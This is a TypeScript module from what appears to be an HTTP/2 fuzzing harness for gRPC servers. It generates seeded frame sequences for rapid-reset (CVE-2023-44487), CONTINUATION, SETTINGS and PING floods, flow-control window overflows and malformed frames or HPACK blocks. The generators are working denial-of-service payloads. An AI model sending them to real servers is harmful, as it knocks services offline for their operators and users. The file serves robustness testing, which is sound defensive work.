/**
 * HTTP/2 anomalies against a gRPC listener, written frame by frame (RFC 9113, HPACK RFC 7541):
 * the CVE-2023-44487 family and its relatives. Each attack is a seeded recipe — the same Random
 * gives the same bytes — and is pure data: the runner (http2-fuzz.ts) writes it to a socket.
 *
 * Kinds, each with several variants (`ATTACK_VARIANTS`; round i of a kind runs variant i mod n):
 * - `rapid-reset` thousands of streams opened (HEADERS, some with a whole request) and reset at once
 * - `continuation-flood` a header block that never ends, a huge one, empty CONTINUATIONs, a block
 *   interrupted by another stream
 * - `settings-flood` thousands of SETTINGS (random, unknown ids, unsolicited ACKs) left unacknowledged
 * - `ping-flood` thousands of PINGs whose ACKs are left unread, or unsolicited PING ACKs
 * - `window-overflow` WINDOW_UPDATE past 2^31-1 on the connection or a stream, zero increments,
 *   SETTINGS_INITIAL_WINDOW_SIZE out of range, a zero window with requests pending
 * - `malformed` bad or truncated prefaces, wrong fixed lengths, oversize frames, unknown types,
 *   frames on stream 0 that must not be (and control frames that must be), DATA on an idle
 *   stream, even or decreasing stream ids, bad padding, bad HPACK, a client PUSH_PROMISE
 *
 * An attack may end with a valid request (`finalStream`): if the server keeps the connection,
 * that request must be answered.
 */
import type { Random } from '../../core/random.js';

export const ATTACK_KINDS = ['rapid-reset', 'continuation-flood', 'settings-flood', 'ping-flood', 'window-overflow', 'malformed'] as const;
export type AttackKind = (typeof ATTACK_KINDS)[number];

/** Frame types (RFC 9113 §6). */
export const FRAME = { DATA: 0, HEADERS: 1, PRIORITY: 2, RST_STREAM: 3, SETTINGS: 4, PUSH_PROMISE: 5, PING: 6, GOAWAY: 7, WINDOW_UPDATE: 8, CONTINUATION: 9 } as const;
export const FRAME_NAMES = ['DATA', 'HEADERS', 'PRIORITY', 'RST_STREAM', 'SETTINGS', 'PUSH_PROMISE', 'PING', 'GOAWAY', 'WINDOW_UPDATE', 'CONTINUATION'] as const;
/** Flags: END_STREAM and ACK share bit 0. */
export const FLAG = { END_STREAM: 0x1, ACK: 0x1, END_HEADERS: 0x4, PADDED: 0x8, PRIORITY: 0x20 } as const;
/** SETTINGS identifiers (RFC 9113 §6.5.2). */
export const SETTING = { HEADER_TABLE_SIZE: 1, ENABLE_PUSH: 2, MAX_CONCURRENT_STREAMS: 3, INITIAL_WINDOW_SIZE: 4, MAX_FRAME_SIZE: 5, MAX_HEADER_LIST_SIZE: 6 } as const;
/** Error codes (RFC 9113 §7), by value. */
export const H2_ERRORS = [
  'NO_ERROR',
  'PROTOCOL_ERROR',
  'INTERNAL_ERROR',
  'FLOW_CONTROL_ERROR',
  'SETTINGS_TIMEOUT',
  'STREAM_CLOSED',
  'FRAME_SIZE_ERROR',
  'REFUSED_STREAM',
  'CANCEL',
  'COMPRESSION_ERROR',
  'CONNECT_ERROR',
  'ENHANCE_YOUR_CALM',
  'INADEQUATE_SECURITY',
  'HTTP_1_1_REQUIRED',
] as const;

export const CONNECTION_PREFACE = Buffer.from('PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n', 'latin1');
export const MAX_WINDOW = 0x7fffffff;
const DEFAULT_MAX_FRAME = 16384;
const CHUNK_BYTES = 64 * 1024;

/** What an attack's requests look like: a real method, so the server starts a call. */
export interface RequestShape {
  /** e.g. /p4.v1.P4Runtime/Capabilities */
  readonly path: string;
  /** Default 'localhost'. */
  readonly authority?: string;
  /** Multiplies the frame counts (default 1: thousands of frames per flood). */
  readonly scale?: number;
}

export interface Http2Attack {
  readonly kind: AttackKind;
  readonly variant: string;
  /** What this instance does, with its drawn numbers. */
  readonly note: string;
  /** The bytes, in order; each chunk is one socket write (at most ~64 KiB). */
  readonly chunks: readonly Buffer[];
  readonly frames: number;
  readonly bytes: number;
  /** Leave what the server sends unread until everything is written (floods whose ACKs pile up). */
  readonly unread: boolean;
  /** A valid request that ends the attack: the server must answer it or close the connection. */
  readonly finalStream?: number;
}

/** Builds an attack: HTTP/2 frames (or raw bytes) collected into socket-sized chunks. */
export class FrameWriter {
  private readonly chunks: Buffer[] = [];
  private pending: Buffer[] = [];
  private pendingBytes = 0;
  frames = 0;
  bytes = 0;

  constructor(readonly shape: RequestShape) {}

  /** Raw bytes, counted as no frame. */
  raw(bytes: Uint8Array): this {
    const b = Buffer.from(bytes.buffer, bytes.byteOffset, bytes.byteLength);
    this.pending.push(b);
    this.pendingBytes += b.length;
    this.bytes += b.length;
    if (this.pendingBytes >= CHUNK_BYTES) this.flush();
    return this;
  }

  /** One frame; `length` overrides the length field (a lie about the payload). */
  frame(type: number, flags: number, streamId: number, payload: Uint8Array = EMPTY, length = payload.length): this {
    this.frames++;
    return this.raw(frameHeader(length, type, flags, streamId)).raw(payload);
  }

  /** The client preface and an empty SETTINGS frame, as every client starts. */
  preface(settings: readonly (readonly [number, number])[] = []): this {
    return this.raw(CONNECTION_PREFACE).settings(settings);
  }

  settings(pairs: readonly (readonly [number, number])[], flags = 0): this {
    return this.frame(FRAME.SETTINGS, flags, 0, settingsPayload(pairs));
  }

  /** HEADERS carrying the minimal gRPC request (END_HEADERS), optionally ending the stream. */
  headers(streamId: number, endStream = false): this {
    return this.frame(FRAME.HEADERS, FLAG.END_HEADERS | (endStream ? FLAG.END_STREAM : 0), streamId, grpcRequestBlock(this.shape));
  }

  /** A whole unary gRPC request: HEADERS, then DATA with an empty message and END_STREAM. */
  request(streamId: number): this {
    return this.headers(streamId).frame(FRAME.DATA, FLAG.END_STREAM, streamId, EMPTY_GRPC_MESSAGE);
  }

  rst(streamId: number, code: number): this {
    return this.frame(FRAME.RST_STREAM, 0, streamId, u32(code));
  }

  windowUpdate(streamId: number, increment: number): this {
    return this.frame(FRAME.WINDOW_UPDATE, 0, streamId, u32(increment));
  }

  ping(random: Random, flags = 0): this {
    return this.frame(FRAME.PING, flags, 0, random.bytes(new Uint8Array(8)));
  }

  get scale(): number {
    return Math.max(1, this.shape.scale ?? 1);
  }

  finish(kind: AttackKind, variant: string, note: string, options: { unread?: boolean; finalStream?: number } = {}): Http2Attack {
    this.flush();
    return {
      kind,
      variant,
      note,
      chunks: this.chunks,
      frames: this.frames,
      bytes: this.bytes,
      unread: options.unread ?? false,
      ...(options.finalStream !== undefined ? { finalStream: options.finalStream } : {}),
    };
  }

  private flush(): void {
    if (this.pendingBytes === 0) return;
    this.chunks.push(Buffer.concat(this.pending, this.pendingBytes));
    this.pending = [];
    this.pendingBytes = 0;
  }
}

const EMPTY = new Uint8Array(0);
/** A gRPC length-prefixed message: uncompressed, zero bytes long. */
export const EMPTY_GRPC_MESSAGE = new Uint8Array(5);

/**
 * The 9-byte frame header. `streamId` is written as 32 bits as given, so the reserved bit can be set.
 *
 * @example
 * frameHeader(8, FRAME.PING, 0, 0); // <00 00 08 06 00 00 00 00 00>
 */
export function frameHeader(length: number, type: number, flags: number, streamId: number): Buffer {
  const h = Buffer.alloc(9);
  h.writeUIntBE(length & 0xffffff, 0, 3);
  h[3] = type & 0xff;
  h[4] = flags & 0xff;
  h.writeUInt32BE(streamId >>> 0, 5);
  return h;
}

function u32(n: number): Buffer {
  const b = Buffer.alloc(4);
  b.writeUInt32BE(n >>> 0);
  return b;
}

function settingsPayload(pairs: readonly (readonly [number, number])[]): Buffer {
  const b = Buffer.alloc(pairs.length * 6);
  pairs.forEach(([id, value], i) => {
    b.writeUInt16BE(id & 0xffff, i * 6);
    b.writeUInt32BE(value >>> 0, i * 6 + 2);
  });
  return b;
}

/**
 * An HPACK integer with an N-bit prefix (RFC 7541 §5.1); `high` holds the bits above the prefix.
 *
 * @example
 * hpackInt(1337, 5, 0); // [31, 154, 10]
 */
export function hpackInt(value: number, prefixBits: number, high = 0): number[] {
  const max = (1 << prefixBits) - 1;
  if (value < max) return [high | value];
  const out = [high | max];
  let rest = value - max;
  while (rest >= 128) {
    out.push((rest % 128) + 128);
    rest = Math.floor(rest / 128);
  }
  out.push(rest);
  return out;
}

/** A string literal without Huffman coding (RFC 7541 §5.2). */
function hpackString(text: string | Uint8Array): number[] {
  const bytes = typeof text === 'string' ? Buffer.from(text, 'latin1') : text;
  return [...hpackInt(bytes.length, 7, 0), ...bytes];
}

/**
 * A literal header field without indexing (RFC 7541 §6.2.2): a new name, or the static table's
 * entry `nameIndex`.
 *
 * @example
 * literalHeader('te', 'trailers'); // [0, 2, 't', 'e', 8, 't', 'r', …]
 */
export function literalHeader(name: string | number, value: string | Uint8Array): number[] {
  if (typeof name === 'number') return [...hpackInt(name, 4, 0), ...hpackString(value)];
  return [0, ...hpackString(name), ...hpackString(value)];
}

/**
 * The header block of a minimal gRPC request: :method POST and :scheme http from the static table,
 * :path and :authority with indexed names, content-type and te as new names.
 *
 * @example
 * grpcRequestBlock({ path: '/p4.v1.P4Runtime/Capabilities' });
 */
export function grpcRequestBlock(shape: RequestShape): Buffer {
  return Buffer.from([
    0x83, // :method POST (static 3)
    0x86, // :scheme http (static 6)
    ...literalHeader(4, shape.path), // :path
    ...literalHeader(1, shape.authority ?? 'localhost'), // :authority
    ...literalHeader('content-type', 'application/grpc'),
    ...literalHeader('te', 'trailers'),
  ]);
}

/** Random filler header fields (printable names and values) for header blocks that grow. */
function fillerFields(random: Random, bytes: number): Buffer {
  const out: number[] = [];
  while (out.length < bytes) {
    const name = `x-fuzz-${random.int(0, 1e6).toString(36)}`;
    const value = String.fromCharCode(...Array.from({ length: random.int(0, 120) }, () => random.int(0x20, 0x7e)));
    out.push(...literalHeader(name, value));
  }
  return Buffer.from(out);
}

const pickOne = <T>(random: Random, items: readonly T[]): T => items[random.int(0, items.length - 1)]!;

type Variant = (w: FrameWriter, random: Random) => Http2Attack;

// ── rapid reset ──────────────────────────────────────────────────────────────────────────────

const rapidReset: Record<string, Variant> = {
  'headers-reset': (w, random) => {
    const n = random.int(1000, 2500) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.headers(1 + 2 * i).rst(1 + 2 * i, pickOne(random, [8, 8, 0, random.int(0, 13)]));
    const last = 1 + 2 * n;
    w.request(last);
    return w.finish('rapid-reset', 'headers-reset', `${n} streams opened (HEADERS) and reset at once, then a request`, { finalStream: last });
  },
  'request-reset': (w, random) => {
    // The whole request arrives, so the handler runs and answers a stream already reset.
    const n = random.int(1000, 2500) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.request(1 + 2 * i).rst(1 + 2 * i, 8);
    const last = 1 + 2 * n;
    w.request(last);
    return w.finish('rapid-reset', 'request-reset', `${n} whole requests each reset at once, then a request`, { finalStream: last });
  },
  'batched-reset': (w, random) => {
    const n = random.int(1000, 2500) * w.scale;
    const batch = random.int(50, 200);
    w.preface();
    for (let start = 0; start < n; start += batch) {
      const end = Math.min(n, start + batch);
      for (let i = start; i < end; i++) w.headers(1 + 2 * i, random.int(0, 1) === 1);
      for (let i = start; i < end; i++) w.rst(1 + 2 * i, 8);
    }
    return w.finish('rapid-reset', 'batched-reset', `${n} streams in batches of ${batch} HEADERS then ${batch} RST_STREAM`);
  },
};

// ── CONTINUATION flood ───────────────────────────────────────────────────────────────────────

const continuationFlood: Record<string, Variant> = {
  endless: (w, random) => {
    const n = random.int(1000, 3000) * w.scale;
    w.preface().frame(FRAME.HEADERS, 0, 1, grpcRequestBlock(w.shape));
    for (let i = 0; i < n; i++) w.frame(FRAME.CONTINUATION, 0, 1, fillerFields(random, random.int(1, 200)));
    return w.finish('continuation-flood', 'endless', `HEADERS without END_HEADERS, then ${n} CONTINUATION frames, never END_HEADERS`);
  },
  'huge-block': (w, random) => {
    const total = random.int(256, 1024) * 1024 * w.scale;
    w.preface().frame(FRAME.HEADERS, FLAG.END_STREAM, 1, grpcRequestBlock(w.shape));
    let sent = 0;
    while (sent < total) {
      const piece = fillerFields(random, Math.min(DEFAULT_MAX_FRAME - 256, total - sent));
      sent += piece.length;
      w.frame(FRAME.CONTINUATION, sent >= total ? FLAG.END_HEADERS : 0, 1, piece);
    }
    return w.finish('continuation-flood', 'huge-block', `a header block of ${sent} bytes over ${w.frames - 2} CONTINUATION frames, then END_HEADERS`);
  },
  'empty-frames': (w, random) => {
    const n = random.int(5000, 20000) * w.scale;
    w.preface().frame(FRAME.HEADERS, 0, 1, grpcRequestBlock(w.shape));
    for (let i = 0; i < n; i++) w.frame(FRAME.CONTINUATION, 0, 1);
    return w.finish('continuation-flood', 'empty-frames', `HEADERS without END_HEADERS, then ${n} empty CONTINUATION frames`);
  },
  'other-stream': (w, random) => {
    // Only CONTINUATION of the same stream may follow an open header block: a connection error.
    w.preface().frame(FRAME.HEADERS, 0, 1, grpcRequestBlock(w.shape));
    const what = pickOne(random, ['continuation-on-3', 'headers-on-3', 'ping']);
    if (what === 'continuation-on-3') w.frame(FRAME.CONTINUATION, FLAG.END_HEADERS, 3, fillerFields(random, 40));
    else if (what === 'headers-on-3') w.headers(3, true);
    else w.ping(random);
    return w.finish('continuation-flood', 'other-stream', `an open header block on stream 1 interrupted by ${what}`);
  },
};

// ── SETTINGS and PING floods ─────────────────────────────────────────────────────────────────

function randomSetting(random: Random): [number, number] {
  const id = random.int(1, 6);
  switch (id) {
    case SETTING.HEADER_TABLE_SIZE:
      return [id, random.int(0, 65536)];
    case SETTING.ENABLE_PUSH:
      return [id, 0];
    case SETTING.MAX_CONCURRENT_STREAMS:
      return [id, random.int(0, 1000)];
    case SETTING.INITIAL_WINDOW_SIZE:
      return [id, random.int(0, MAX_WINDOW)];
    case SETTING.MAX_FRAME_SIZE:
      return [id, random.int(DEFAULT_MAX_FRAME, 0xffffff)];
    default:
      return [id, random.int(0, 1 << 20)];
  }
}

const settingsFlood: Record<string, Variant> = {
  'random-settings': (w, random) => {
    const n = random.int(1000, 4000) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.settings(Array.from({ length: random.int(1, 6) }, () => randomSetting(random)));
    return w.finish('settings-flood', 'random-settings', `${n} SETTINGS frames of 1–6 random values, ACKs left unread`, { unread: true });
  },
  'unknown-ids': (w, random) => {
    const n = random.int(1000, 4000) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.settings(Array.from({ length: random.int(1, 10) }, () => [random.int(7, 0xffff), random.int(0, 0xffffffff)] as const));
    const last = 1;
    w.request(last);
    return w.finish('settings-flood', 'unknown-ids', `${n} SETTINGS frames of unknown identifiers (to be ignored), ACKs unread, then a request`, {
      unread: true,
      finalStream: last,
    });
  },
  'unsolicited-acks': (w, random) => {
    const n = random.int(1000, 4000) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.settings([], FLAG.ACK);
    return w.finish('settings-flood', 'unsolicited-acks', `${n} SETTINGS ACK frames nobody asked for`);
  },
  'table-size-churn': (w, random) => {
    const n = random.int(200, 800) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.settings([[SETTING.HEADER_TABLE_SIZE, i % 2 === 0 ? 0 : random.int(1, 65536)]]).request(1 + 2 * i);
    return w.finish('settings-flood', 'table-size-churn', `${n} requests, each after a SETTINGS changing the header table size`, { unread: true });
  },
};

const pingFlood: Record<string, Variant> = {
  'pings-unread': (w, random) => {
    const n = random.int(5000, 20000) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.ping(random);
    return w.finish('ping-flood', 'pings-unread', `${n} PING frames, ACKs left unread`, { unread: true });
  },
  'unsolicited-acks': (w, random) => {
    const n = random.int(5000, 20000) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.ping(random, FLAG.ACK);
    w.request(1);
    return w.finish('ping-flood', 'unsolicited-acks', `${n} PING ACK frames nobody asked for, then a request`, { finalStream: 1 });
  },
  'pings-between-requests': (w, random) => {
    const n = random.int(200, 800) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) {
      for (let p = random.int(5, 20); p > 0; p--) w.ping(random);
      w.request(1 + 2 * i);
    }
    return w.finish('ping-flood', 'pings-between-requests', `${n} requests, each behind 5–20 PINGs, nothing read`, { unread: true });
  },
};

// ── window overflow ──────────────────────────────────────────────────────────────────────────

const windowOverflow: Record<string, Variant> = {
  'connection-overflow': (w, random) => {
    // The connection window starts at 65,535: one increment of 2^31-1 takes it past the limit.
    w.preface().windowUpdate(0, MAX_WINDOW - random.int(0, 60000));
    return w.finish('window-overflow', 'connection-overflow', 'WINDOW_UPDATE on stream 0 pushing the connection window past 2^31-1');
  },
  'stream-overflow': (w) => {
    w.preface().headers(1).windowUpdate(1, MAX_WINDOW).windowUpdate(1, MAX_WINDOW).request(3);
    return w.finish('window-overflow', 'stream-overflow', 'WINDOW_UPDATE twice 2^31-1 on an open stream, then a request on another', { finalStream: 3 });
  },
  'zero-increment-connection': (w) => {
    w.preface().windowUpdate(0, 0);
    return w.finish('window-overflow', 'zero-increment-connection', 'WINDOW_UPDATE of 0 on stream 0');
  },
  'zero-increment-stream': (w) => {
    w.preface().headers(1).windowUpdate(1, 0).request(3);
    return w.finish('window-overflow', 'zero-increment-stream', 'WINDOW_UPDATE of 0 on an open stream, then a request on another', { finalStream: 3 });
  },
  'initial-window-too-big': (w, random) => {
    w.preface([[SETTING.INITIAL_WINDOW_SIZE, MAX_WINDOW + random.int(1, 1000)]]);
    return w.finish('window-overflow', 'initial-window-too-big', 'SETTINGS_INITIAL_WINDOW_SIZE above 2^31-1');
  },
  'initial-window-shift': (w) => {
    // Raising the initial window moves every open stream's window by the difference: past 2^31-1.
    w.preface().headers(1).windowUpdate(1, MAX_WINDOW - 65535).settings([[SETTING.INITIAL_WINDOW_SIZE, MAX_WINDOW]]);
    return w.finish('window-overflow', 'initial-window-shift', 'a stream window at 2^31-1, then SETTINGS_INITIAL_WINDOW_SIZE 2^31-1 shifts it past');
  },
  'update-flood': (w, random) => {
    const n = random.int(1000, 3000) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.windowUpdate(0, 1);
    w.request(1);
    return w.finish('window-overflow', 'update-flood', `${n} WINDOW_UPDATE of 1 on stream 0, then a request`, { finalStream: 1 });
  },
  'zero-window': (w, random) => {
    // Nothing can be sent back: responses wait in the server for a window that never opens.
    const n = random.int(100, 500) * w.scale;
    w.preface([[SETTING.INITIAL_WINDOW_SIZE, 0]]);
    for (let i = 0; i < n; i++) w.request(1 + 2 * i);
    return w.finish('window-overflow', 'zero-window', `SETTINGS_INITIAL_WINDOW_SIZE 0, then ${n} requests whose replies cannot be sent`);
  },
};

// ── malformed frames ─────────────────────────────────────────────────────────────────────────

/** Header blocks that break HPACK or gRPC's header rules, each with what is wrong. */
function badHeaderBlock(random: Random, shape: RequestShape): [string, Buffer] {
  const good = grpcRequestBlock(shape);
  const cases: [string, () => number[]][] = [
    ['indexed field 0', () => [0x80]],
    ['index past both tables', () => hpackInt(random.int(62, 5000), 7, 0x80)],
    ['table size update above the limit', () => hpackInt(random.int(65537, 1 << 30), 5, 0x20)],
    ['string length past the block', () => [0, ...hpackInt(random.int(1000, 1 << 24), 7, 0), 0x61]],
    ['integer overflowing 32 bits', () => [0, 0x7f, 0xff, 0xff, 0xff, 0xff, 0xff, 0xff, 0x7f]],
    ['invalid Huffman padding', () => [0, 0x81, 0x00, 0x01, 0x61]],
    ['an uppercase header name', () => [...good, ...literalHeader('X-Upper', 'v')]],
    ['a pseudo-header after a regular one', () => [...good, ...literalHeader(4, shape.path)]],
    ['no :path', () => [0x83, 0x86, ...literalHeader(1, 'localhost'), ...literalHeader('content-type', 'application/grpc')]],
    ['a connection-specific header', () => [...good, ...literalHeader('connection', 'keep-alive')]],
    ['a truncated block', () => [...good.subarray(0, random.int(1, good.length - 1))]],
  ];
  const [what, make] = pickOne(random, cases);
  return [what, Buffer.from(make())];
}

const malformed: Record<string, Variant> = {
  'bad-preface': (w, random) => {
    const what = pickOne(random, ['random bytes', 'HTTP/1.1', 'one byte altered']);
    if (what === 'random bytes') w.raw(random.bytes(new Uint8Array(random.int(1, 256))));
    else if (what === 'HTTP/1.1') w.raw(Buffer.from('POST /p4.v1.P4Runtime/Capabilities HTTP/1.1\r\nHost: x\r\nContent-Length: 5\r\n\r\n\0\0\0\0\0'));
    else {
      const p = Buffer.from(CONNECTION_PREFACE);
      const at = random.int(0, p.length - 1);
      p[at] = (p[at]! + random.int(1, 255)) & 0xff;
      w.raw(p).settings([]);
    }
    return w.finish('malformed', 'bad-preface', `a wrong preface: ${what}`);
  },
  'truncated-preface': (w, random) => {
    const k = random.int(0, CONNECTION_PREFACE.length - 1);
    w.raw(CONNECTION_PREFACE.subarray(0, k));
    return w.finish('malformed', 'truncated-preface', `the first ${k} bytes of the preface, then silence`);
  },
  'wrong-fixed-length': (w, random) => {
    const cases: [string, () => void][] = [
      ['PING of 7 bytes', () => w.frame(FRAME.PING, 0, 0, random.bytes(new Uint8Array(7)))],
      ['PING of 9 bytes', () => w.frame(FRAME.PING, 0, 0, random.bytes(new Uint8Array(9)))],
      ['RST_STREAM of 3 bytes', () => w.headers(1).frame(FRAME.RST_STREAM, 0, 1, new Uint8Array(3))],
      ['WINDOW_UPDATE of 5 bytes', () => w.frame(FRAME.WINDOW_UPDATE, 0, 0, new Uint8Array([0, 0, 1, 0, 0]))],
      ['PRIORITY of 4 bytes', () => w.frame(FRAME.PRIORITY, 0, 1, new Uint8Array(4))],
      ['SETTINGS of 7 bytes', () => w.frame(FRAME.SETTINGS, 0, 0, new Uint8Array(7))],
      ['SETTINGS ACK with a payload', () => w.frame(FRAME.SETTINGS, FLAG.ACK, 0, new Uint8Array(6))],
      ['GOAWAY of 4 bytes', () => w.frame(FRAME.GOAWAY, 0, 0, new Uint8Array(4))],
    ];
    const [what, write] = pickOne(random, cases);
    w.preface();
    write();
    return w.finish('malformed', 'wrong-fixed-length', what);
  },
  'oversize-frame': (w, random) => {
    const length = random.int(DEFAULT_MAX_FRAME + 1, 1 << 20);
    const type = pickOne(random, [FRAME.DATA, FRAME.HEADERS, FRAME.SETTINGS, 0x42]);
    w.preface().headers(1);
    w.frame(type, 0, type === FRAME.SETTINGS ? 0 : 1, random.bytes(new Uint8Array(length)));
    return w.finish('malformed', 'oversize-frame', `a ${FRAME_NAMES[type] ?? `type 0x${type.toString(16)}`} frame of ${length} bytes (limit 16,384)`);
  },
  'length-lie': (w, random) => {
    const claimed = random.int(100, DEFAULT_MAX_FRAME);
    w.preface().headers(1).frame(FRAME.DATA, 0, 1, random.bytes(new Uint8Array(random.int(0, claimed - 1))), claimed);
    return w.finish('malformed', 'length-lie', `a DATA frame claiming ${claimed} bytes and sending fewer, then silence`);
  },
  'unknown-types': (w, random) => {
    const n = random.int(100, 1000) * w.scale;
    w.preface();
    for (let i = 0; i < n; i++) w.frame(random.int(10, 255), random.int(0, 255), random.int(0, 100), random.bytes(new Uint8Array(random.int(0, 64))));
    w.request(1);
    return w.finish('malformed', 'unknown-types', `${n} frames of unknown types (to be ignored), then a request`, { finalStream: 1 });
  },
  'stream-zero': (w, random) => {
    const cases: [string, () => void][] = [
      ['HEADERS', () => w.frame(FRAME.HEADERS, FLAG.END_HEADERS, 0, grpcRequestBlock(w.shape))],
      ['DATA', () => w.frame(FRAME.DATA, 0, 0, EMPTY_GRPC_MESSAGE)],
      ['RST_STREAM', () => w.rst(0, 8)],
      ['CONTINUATION', () => w.frame(FRAME.CONTINUATION, FLAG.END_HEADERS, 0, fillerFields(random, 20))],
      ['PRIORITY', () => w.frame(FRAME.PRIORITY, 0, 0, new Uint8Array(5))],
    ];
    const [what, write] = pickOne(random, cases);
    w.preface();
    write();
    return w.finish('malformed', 'stream-zero', `${what} on stream 0`);
  },
  'control-on-stream': (w, random) => {
    const sid = 1 + 2 * random.int(0, 1000);
    const cases: [string, () => void][] = [
      ['SETTINGS', () => w.frame(FRAME.SETTINGS, 0, sid)],
      ['PING', () => w.frame(FRAME.PING, 0, sid, new Uint8Array(8))],
      ['GOAWAY', () => w.frame(FRAME.GOAWAY, 0, sid, new Uint8Array(8))],
    ];
    const [what, write] = pickOne(random, cases);
    w.preface();
    write();
    return w.finish('malformed', 'control-on-stream', `${what} on stream ${sid}`);
  },
  'data-idle-stream': (w, random) => {
    const closed = random.int(0, 1) === 1;
    w.preface();
    if (closed) w.request(1).frame(FRAME.DATA, 0, 1, EMPTY_GRPC_MESSAGE);
    else w.frame(FRAME.DATA, FLAG.END_STREAM, 1 + 2 * random.int(0, 1000), EMPTY_GRPC_MESSAGE);
    return w.finish('malformed', 'data-idle-stream', closed ? 'DATA on a stream the client already ended' : 'DATA on an idle stream');
  },
  'stream-ids': (w, random) => {
    const what = pickOne(random, ['even', 'decreasing', 'reserved-bit', 'self-dependency']);
    w.preface();
    if (what === 'even') w.headers(2 * random.int(1, 1000), true);
    else if (what === 'decreasing') w.request(7).request(5);
    else if (what === 'reserved-bit') w.frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 0x80000001, grpcRequestBlock(w.shape));
    else w.frame(FRAME.PRIORITY, 0, 1, Buffer.from([0, 0, 0, 1, 16]));
    return w.finish('malformed', 'stream-ids', `stream ids: ${what}`);
  },
  'bad-padding': (w, random) => {
    const body = random.int(0, 1) === 1 ? grpcRequestBlock(w.shape) : Buffer.from(EMPTY_GRPC_MESSAGE);
    const pad = random.int(body.length + 1, 255);
    const type = body.length === 5 ? FRAME.DATA : FRAME.HEADERS;
    w.preface();
    if (type === FRAME.DATA) w.headers(1);
    w.frame(type, FLAG.PADDED | (type === FRAME.HEADERS ? FLAG.END_HEADERS : 0), 1, Buffer.concat([Buffer.from([pad]), body]));
    return w.finish('malformed', 'bad-padding', `a padded ${FRAME_NAMES[type]} frame whose pad length ${pad} exceeds its payload`);
  },
  'bad-hpack': (w, random) => {
    const [what, block] = badHeaderBlock(random, w.shape);
    w.preface().frame(FRAME.HEADERS, FLAG.END_HEADERS | FLAG.END_STREAM, 1, block).request(3);
    return w.finish('malformed', 'bad-hpack', `HEADERS with ${what}, then a request`, { finalStream: 3 });
  },
  'push-promise': (w) => {
    w.preface().headers(1).frame(FRAME.PUSH_PROMISE, FLAG.END_HEADERS, 1, Buffer.concat([u32(2), grpcRequestBlock(w.shape)]));
    return w.finish('malformed', 'push-promise', 'a PUSH_PROMISE from the client');
  },
  'random-frames': (w, random) => {
    const n = random.int(20, 200);
    w.preface();
    for (let i = 0; i < n; i++) w.frame(random.int(0, 9), random.int(0, 255), random.int(0, 20), random.bytes(new Uint8Array(random.int(0, 40))));
    return w.finish('malformed', 'random-frames', `${n} frames of random known types, flags, streams and payloads`);
  },
};

/** Every variant of every kind; round i of a kind runs variant i mod n. */
const VARIANTS: Record<AttackKind, Record<string, Variant>> = {
  'rapid-reset': rapidReset,
  'continuation-flood': continuationFlood,
  'settings-flood': settingsFlood,
  'ping-flood': pingFlood,
  'window-overflow': windowOverflow,
  malformed,
};

export const ATTACK_VARIANTS: Readonly<Record<AttackKind, readonly string[]>> = Object.fromEntries(
  ATTACK_KINDS.map((k) => [k, Object.keys(VARIANTS[k])]),
) as unknown as Record<AttackKind, readonly string[]>;

/**
 * The attack of `kind` for a round: variant `round mod n`, its numbers drawn from `random`.
 * The same kind, round and seed give the same bytes.
 *
 * @example
 * const attack = http2Attack('rapid-reset', 0, seededRandom(7), { path: '/p4.v1.P4Runtime/Capabilities' });
 * attack.note; // "1873 streams opened (HEADERS) and reset at once, then a request"
 */
export function http2Attack(kind: AttackKind, round: number, random: Random, shape: RequestShape): Http2Attack {
  const names = ATTACK_VARIANTS[kind];
  const name = names[round % names.length]!;
  return VARIANTS[kind][name]!(new FrameWriter(shape), random);
}

/** A frame as read back from the server. */
export interface ReceivedFrame {
  readonly type: number;
  readonly flags: number;
  readonly streamId: number;
  readonly payload: Buffer;
}

/**
 * Splits the server's bytes into frames as they arrive (the server's own preface is a SETTINGS
 * frame, so there is nothing else to skip).
 *
 * @example
 * const reader = new FrameReader((f) => console.log(FRAME_NAMES[f.type]));
 * socket.on('data', (b) => reader.push(b));
 */
export class FrameReader {
  private buffered: Buffer = Buffer.alloc(0);

  constructor(private readonly onFrame: (frame: ReceivedFrame) => void) {}

  push(data: Buffer): void {
    this.buffered = this.buffered.length === 0 ? data : Buffer.concat([this.buffered, data]);
    while (this.buffered.length >= 9) {
      const length = this.buffered.readUIntBE(0, 3);
      if (this.buffered.length < 9 + length) return;
      this.onFrame({
        type: this.buffered[3]!,
        flags: this.buffered[4]!,
        streamId: this.buffered.readUInt32BE(5) & MAX_WINDOW,
        payload: this.buffered.subarray(9, 9 + length),
      });
      this.buffered = this.buffered.subarray(9 + length);
    }
  }
}
